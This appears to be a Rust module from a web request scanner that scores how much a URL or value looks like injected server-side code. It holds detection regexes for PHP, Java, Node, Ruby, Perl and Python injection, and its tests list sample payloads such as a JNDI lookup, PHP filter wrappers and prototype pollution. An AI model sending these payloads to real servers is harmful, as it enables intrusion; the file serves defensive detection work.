//! `code_score(text)`: how much a value looks like program text for the server to run: PHP, Java, JavaScript,
//! Ruby, Perl, or an object to deserialise.

use std::sync::LazyLock;

use super::decoding::decode;
use super::family::{Family, Trait};

/// Traits of program text.
const TRAITS: &[Trait] = &[
    // PHP: where it opens and closes, what is always there.
    (
        0.85,
        r"<\?(?:php\b|=|$|[\s&]|[^\w\s!]|xml(?:\s*[:;(]|\s+[^a-z\s]|$))|<\?\s*(?:echo|print|eval|system|exec|include|require|\$)",
    ),
    (0.8, r"[\[{][/\\]?php[\]}]|<script\s+language\s*=\s*.?php"),
    (
        0.85,
        r"\$_(?:get|post|request|server|cookie|session|files|env)\b|\$(?:globals|http_(?:raw_post_data|\w+_vars))\b|\$_?\w{1,30}\[['\x22]\w+['\x22]\]\s*\(",
    ),
    (
        0.85,
        r"\b(?:allow_url_(?:fopen|include)|auto_(?:ap|pre)pend_file|disable_functions|open_basedir|safe_mode|suhosin\.\w+|cgi\.force_redirect|cgi\.redirect_status_env|sendmail_path|extension_dir|php_(?:value|admin_value|flag))\s*(?:=|\b%3d|\s)",
    ),
    (
        0.85,
        r"\b(?:php://(?:std(?:in|out|err)|(?:in|out)put|fd|memory|temp|filter)|convert\.(?:base64|iconv|quoted)|phar://|expect://|zlib://|compress\.(?:zlib|bzip2)://)",
    ),
    (
        0.8,
        r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|chr|file_get_contents|file_put_contents|fopen|fwrite|fputs|fputcsv|readfile|fsockopen|fpassthru|parse_ini_file|show_source|highlight_file|phpinfo|phpversion|php_uname|getenv|putenv|ini_set|ini_get|dl|unlink|chmod|opendir|scandir|glob|move_uploaded_file|include(?:_once)?|require(?:_once)?|preg_replace(?:_callback)?|array_(?:map|filter|walk|diff\w*|reduce|\w+)|usort|ob_start|register_shutdown_function|unserialize|serialize|extract|parse_str|mb_ereg_replace|curl_(?:init|exec)|mail|session_start|print_r|var_dump|sprintf|die|exit)\s*(?:/\*.{0,60}?\*/\s*)?\(\s*(?:\)|['\x22$@\\/\[]|\w+\s*\()",
    ),
    (
        0.7,
        r"\b(?:array|str|preg|mb|file|stream|mysqli?|pgsql?|sodium|tidy|zlib|gz|bz|curl|openssl|date|json|iconv|ftp|posix|pcntl|ob|func|get|call_user|create|image|hash|http|iptc|ldap|libxml|mcrypt|odbc|oci|readline|recode|session|shmop|simplexml|snmp|socket|spl|sqlite|ssh2|sys|token|utf8|wddx|xml|xmlrpc|xmlwriter|zend|zip|apache|apc|ctype|dba|dns|exif|filter|gmp|imap|is|move|php|proc|register|set|ini|var)_[a-z0-9_]{2,60}\s*\(",
    ),
    // A function by its name in quotes, brackets, pieces, variables.
    (
        0.8,
        r"(?:\]|\}|['\x22]|\)|\$\w{1,30})\s*(?:\)|\[\s*\d\s*\]|/\*[^*]{0,60}\*/|\{\s*(?:/\*[^*]{0,60}\*/)?\s*\d\s*\}|\})*\s*(?:/\*[^*]{0,60}\*/)?\s*\(\s*[^()]{0,120}(?:\([^()]{0,60}\))?[^()]{0,60}\)\s*;",
    ),
    (
        0.75,
        r"\)\(\s*(?:@?\w{1,20}|['\x22][^'\x22]{0,60}['\x22])\s*\)\s*(?:$|[;&])|['\x22]\s*\.\s*['\x22]\w{1,12}['\x22]|\bdefine\s*\(\s*['\x22]|\w\.\(\w+\)\.\w",
    ),
    (
        0.85,
        r"(?:^|[=;{:\x22'])[oc]:\d{1,4}:\x22[\w\\]{1,80}\x22:\d{1,4}:\{|\ba:\d{1,4}:\{(?:[isdbo]:|\})|\bo:\d+:\x22stdclass",
    ),
    // Java: classes that run things, expressions, serialised objects, look-ups.
    (
        0.85,
        r"\bjava[x]?\.(?:lang|io|util|net|nio|script|naming|rmi|beans|security|sql|el|management)\b|\bruntime\b.{0,20}getruntime|\bgetruntime\s*\(|\bprocessbuilder\b|\bclass\.(?:module|classloader|forname)\b|\bforname\s*\(|\bgetclass\s*\(|\bjavassist\b|\bclassloader\b",
    ),
    (
        0.8,
        r"\b(?:org|com)\.(?:apache|springframework|mozilla|codehaus|jboss|hibernate|opensymphony|sun|oracle|ibm|bea|mchange|alibaba)\.[\w.]+|#_?(?:memberaccess|context|request|response|application|session|parameters)\b|\bognl\b|%\{[^}]{0,80}[#@(]|\$\{[^}]{0,80}@[\w.]+@|\bxwork\b|\bmethodaccessor\b|\bxstream\b|\bmvel\b",
    ),
    (
        0.9,
        r"\$\{\s*(?:jndi|(?:[\w:]*\$\{)|::-|lower:|upper:|env:|sys:|java:|main:|ctx:|date:|base64:|script:|dns:|url:|k8s:|spring:)|\bro0ab|\bkztaa|\bacedrqa\b|aced0005|\xef\xbf\xbd\xef\xbf\xbd\x00\x05",
    ),
    // JavaScript on the server.
    (
        0.85,
        r"\bchild_process\b|\brequire\s*\(\s*['\x22](?:fs|http|net|os|vm|child_process|path|dgram|cluster)\b|\bprocess\s*\.\s*(?:env|mainmodule|binding|exit|kill|argv|cwd|version)|\brequire\.main\b|\bmodule\.constructor\b|_load\s*\(|_\$\$nd_func\$\$_|\bexecsync\b|\bspawnsync\b|\bglobal\.process\b|\bthis\.constructor\b|\bconstructor\.constructor\b",
    ),
    (0.85, r"__proto__|\bconstructor\s*(?:\[|\.)\s*['\x22]?prototype|\bprototype\s*(?:\[|\.)\s*\w+\s*="),
    (
        0.75,
        r"\bwhile\s*\(\s*(?:true|1|!0|!''|\[\])\s*\)|\bfunction\s*\w*\s*\([\w\s,]{0,40}\)\s*\{|\(\)\s*=>\s*\{|\bnew\s+(?:function|buffer|xmlhttprequest|activexobject|image)\s*\(|\bbuffer\.from\s*\(",
    ),
    // Ruby, Perl, Python.
    (
        0.85,
        r"\bprocess\s*\.\s*spawn\b|\bkernel\s*\.\s*(?:exec|system|spawn|open|fork)\b|\bio\s*\.\s*(?:popen|read|sysopen)\b|\bopen3\b|\bpty\.spawn\b|\bgem::(?:requirement|installer)|\berb\.new\b|\binstance_eval\b|\bfile\.(?:read|open)\s*\(",
    ),
    (0.75, r"@\{\s*\[?.{0,80}(?:system|exec|`|print|qx)|\bqx[/({]|\buse\s+(?:strict|socket|io::\w+)\s*;"),
    (
        0.8,
        r"\b__import__\s*\(|\bimport\s+(?:os|sys|socket|subprocess|pty)\b|\bos\.(?:system|popen|environ|exec\w*)\b|\bsubprocess\.(?:popen|call|run|check_output)|\b__(?:class|mro|bases?|subclasses|globals|builtins|init|dict)__\b|\beval\s*\(\s*compile|\bpickle\.loads",
    ),
];

/// A text without any of these shows no trait.
const NEEDLES: &[&str] = &[
    "<?",
    "php",
    "$_",
    "$",
    "allow_url",
    "pend_file",
    "disable_functions",
    "open_basedir",
    "safe_mode",
    "suhosin",
    "cgi.",
    "(",
    "convert.",
    "phar:",
    "expect:",
    "zlib:",
    "o:",
    "c:",
    "a:",
    "java",
    "runtime",
    "processbuilder",
    "class.",
    "classloader",
    "org.",
    "com.",
    "ognl",
    "#",
    "xwork",
    "xstream",
    "mvel",
    "ro0ab",
    "kztaa",
    "acedrqa",
    "aced0005",
    "child_process",
    "process",
    "require",
    "_load",
    "prototype",
    "__",
    "while",
    "function",
    "=>",
    "spawn",
    "kernel",
    "popen",
    "open3",
    "gem::",
    "erb",
    "_eval",
    "@{",
    "qx",
    "import",
    "os.",
    "subprocess",
    "execsync",
    "constructor",
    "bzip2:",
];

static FAMILY: LazyLock<Option<Family>> = LazyLock::new(|| Family::new(NEEDLES, TRAITS));

/// How much `text` looks like program text, 0 to 1.
pub(in super::super) fn score(text: &str) -> f64 {
    FAMILY.as_ref().map_or(0.0, |family| family.score(&decode(text)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn program_text_scores_high() {
        for text in [
            "/a?x=<?php phpinfo();?>",
            "/a?x=<?=7*7?>",
            "/a?x=$_GET[1]",
            "/a?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            "/a?f=php://filter/convert.base64-encode/resource=index",
            "/a?x=('pass'.'thru')('id');",
            "/a?x=O:8:\"Articolo\":1:{s:1:\"a\";i:1;}",
            "/a?class.module.classLoader.resources=x",
            "${jndi:ldap://a.example/x}",
            "${${lower:j}ndi:dns://a.example}",
            "/a?x=require('child_process')",
            "/a?x[__proto__][admin]=1",
            "/a?x=Kernel.exec(1)",
            "/a?x=''.__class__.__mro__",
            "/a?x=(#context['a']=1)",
        ] {
            assert!(score(text) >= 0.7, "{text}: {}", score(text));
        }
    }

    #[test]
    fn ordinary_values_score_low() {
        for text in [
            "/index.php?option=com_content&view=article",
            "/cerca?q=corso di java (base)",
            "/feed.xml?<?xml version=\"1.0\"?>",
            "/cerca?q=sistema (nuovo); delibera",
            "/cerca?q=class action",
            "/a?b=function",
            "https://www.comune.example/index.php?id=3",
            "Mozilla/5.0 (X11; Linux x86_64) Java/17.0.2",
            "",
        ] {
            assert!(score(text) < 0.7, "{text}: {}", score(text));
        }
    }
}
